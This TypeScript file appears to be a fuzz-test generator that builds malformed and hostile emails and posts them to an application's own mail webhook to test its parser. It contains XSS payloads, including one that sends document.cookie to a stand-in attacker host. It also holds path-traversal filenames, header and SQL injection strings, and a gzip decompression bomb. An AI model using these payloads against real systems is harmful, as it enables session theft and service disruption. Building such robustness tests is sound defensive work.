import { gzipSync } from 'node:zlib';
import type { Random } from '../faults/random.ts';
import { hostileText } from './corpus.ts';
import type { HostileRequest } from './requests.ts';

/** A way to be hostile by mail. Returns the raw mail, of which `number` makes each another. */
type Trick = (number: number, random: Random) => string;

const SCRIPTS = [
  '<script>fetch("https://evil.example/?" + document.cookie)</script>',
  '<svg onload="alert(1)"><img src=x onerror="alert(1)">',
  '<iframe srcdoc="<script>top.location=\'https://evil.example\'</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<form action="https://evil.example"><input autofocus onfocus="alert(1)"></form>',
  '<a href="javascript:alert(1)" target="_top">Click</a><object data="data:text/html,<script>1</script>"></object>',
] as const;
const PICTURES = [
  '<img src="https://evil.example/a.gif" srcset="https://evil.example/b.gif 2x">',
  '<style>@import "https://evil.example/c.css"; body { background: url(https://evil.example/d.gif) }</style>',
  '<link rel="stylesheet" href="//evil.example/e.css"><video poster="https://evil.example/f.gif" autoplay></video>',
  '<table background="https://evil.example/g.gif"><tr><td style="background-image:u\\72l(//evil.example)">x</table>',
] as const;
const CHARSETS = [
  'utf-7',
  'x-unknown',
  'iso-2022-kr',
  'gb18030',
  'utf-16',
  'us-ascii',
  '',
  'utf-8\0',
  '../../etc',
] as const;
const NAMES = [
  '../../etc/passwd',
  'a\r\nX-Evil: 1',
  '\u202egnp.exe',
  '.',
  'CON',
  'a'.repeat(5_000),
  '=?utf-8?q?=00?=',
  '<b>.html',
] as const;
const FROMS = [
  'a@b.example, c@d.example',
  'Group: a@b.example;',
  '"a@b.example" <c@d.example>',
  '=?utf-8?q?a=40b.example=0aTo:=20x?= <e@f.example>',
  `${'a@'.repeat(20_000)}b.example`,
  '<<<<>>>>',
  '',
  'reply@[127.0.0.1]',
] as const;

/** 200 MB in a few hundred bytes. */
const BOMB = gzipSync(gzipSync(Buffer.alloc(200_000_000)));

/** As many parts in each other. */
function nested(depth: number): string {
  const open = Array.from(
    { length: depth },
    (_, n) => `Content-Type: multipart/mixed; boundary=b${n}\r\n\r\n--b${n}\r\n`,
  );
  return `${open.join('')}\r\nHello`;
}

function parts(count: number, part: string): string {
  return `Content-Type: multipart/mixed; boundary=b\r\n\r\n${`--b\r\n${part}\r\n`.repeat(count)}--b--`;
}

function file(name: string, content: Buffer): string {
  return `Content-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${content.toString('base64')}`;
}

const html = (body: string) => `Content-Type: text/html\r\n\r\n${body}`;
const plain = (body: string) => `Content-Type: text/plain\r\n\r\n${body}`;

/** Each is a mail without its first headers, or with all of them. */
const TRICKS: Trick[] = [
  (number) => nested(10 ** (1 + (number % 4))),
  () => parts(10_000, '\r\nx'),
  () => parts(3_000, file('a.txt', Buffer.from('x'))),
  (_, random) =>
    `Content-Type: text/plain; charset=${random.pick(CHARSETS)}\r\n\r\n\xff\xfe${hostileText(random)}\x80\x81`,
  () => `X-Long: ${'a'.repeat(1_000_000)}\r\n${plain('Hello')}`,
  () => `${'X-Many: 1\r\n'.repeat(100_000)}${plain('Hello')}`,
  () => `References: ${'<a@b.example> '.repeat(50_000)}\r\n${plain('Hello')}`,
  () => `References: ${'<'.repeat(500_000)}\r\nTo: ${'a'.repeat(500_000)}\r\n${plain('Hello')}`,
  () => parts(1, file('bomb.zip', BOMB)),
  () => parts(8, file('large.bin', Buffer.alloc(2_200_000, 7))),
  () => parts(1, file('too-large.bin', Buffer.alloc(12_000_000, 7))),
  (_, random) => html(random.pick(SCRIPTS)),
  (_, random) => html(random.pick(PICTURES)),
  () => html('<script>'.repeat(250_000)),
  () => html('<'.repeat(2_000_000)),
  () => html(`<${'a'.repeat(2_000_000)}`),
  () => html('<div>'.repeat(300_000)),
  (_, random) =>
    `To: reply+${random.pick(["' OR 1=1 --", '%00', 'a'.repeat(58), '../x', 'ａｂｃ'])}@reply.example\r\n${plain('Hello')}`,
  (_, random) =>
    `In-Reply-To: <email.${random.pick(['00000000-0000-4000-8000-000000000000', "' OR ''='", '%s'])}@x>\r\n${plain('Hi')}`,
  (_, random) => `From: ${random.pick(FROMS)}\r\nFrom: second@b.example\r\n${plain('Hello')}`,
  (_, random) => parts(2, file(random.pick(NAMES), Buffer.from('x'))),
  () => plain('\n'.repeat(450_000)),
  () => plain('> '.repeat(200_000)),
  () => plain('On On On On wrote \n'.repeat(30_000)),
  () => plain(`unsubscribe ${'opt me '.repeat(60_000)}`),
  () => `Subject: ${'Re: '.repeat(100_000)}\r\n${plain('Hello')}`,
  (_, random) => `Subject: =?x-none?b?${hostileText(random)}?= =?utf-8?q?${'=?'.repeat(50_000)}\r\n${plain('Hello')}`,
  () =>
    `Content-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\n${'Final-Recipient: rfc822; a@b.example\r\nAction: failed\r\nStatus: 5.1.1\r\n'.repeat(20_000)}--b--`,
  () => 'Content-Type: message/rfc822\r\n\r\n'.repeat(500),
  () => `Content-Type: text/plain; format=flowed; delsp=yes\r\n\r\n${' \r\n'.repeat(150_000)}`,
  () =>
    `Content-Type: text/plain; ${Array.from({ length: 5_000 }, (_, n) => `name*${n}*=%ff`).join('; ')}\r\n\r\nHello`,
  () => `Content-Transfer-Encoding: base64\r\n${plain('=?!'.repeat(100_000))}`,
  () => `Content-Transfer-Encoding: quoted-printable\r\n${plain('=\r\n=XX='.repeat(50_000))}`,
  () => `Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n--\r\n----`,
  (_, random) => Array.from({ length: 20_000 }, () => String.fromCharCode(random.between(0, 255))).join(''),
];

/** Yields posts of hostile mails, as a provider would make them. The same generator gives the same mails. */
export function* hostileMails(count: number, secret: string, random: Random): Generator<HostileRequest> {
  for (let number = 0; number < count; number += 1) {
    const trick = TRICKS[number % TRICKS.length];
    if (!trick) return;
    const told = `From: Eve <eve@evil.example>\r\nTo: us@example.com\r\nMessage-ID: <${number}@evil.example>\r\nSubject: Mail ${number}\r\n`;
    const raw = Buffer.from(`${told}${trick(number, random)}`, 'latin1');
    // Some are cut short or have wrong bytes on the way.
    const cut = random.chance(0.1) ? raw.subarray(0, random.between(1, raw.length)) : raw;
    if (random.chance(0.1)) cut[random.between(0, Math.min(cut.length, 2_000) - 1)] = random.between(0, 255);
    yield {
      method: 'POST',
      path: '/api/webhooks/mail',
      headers: { 'content-type': 'message/rfc822', authorization: `Bearer ${secret}` },
      body: cut,
    };
  }
}
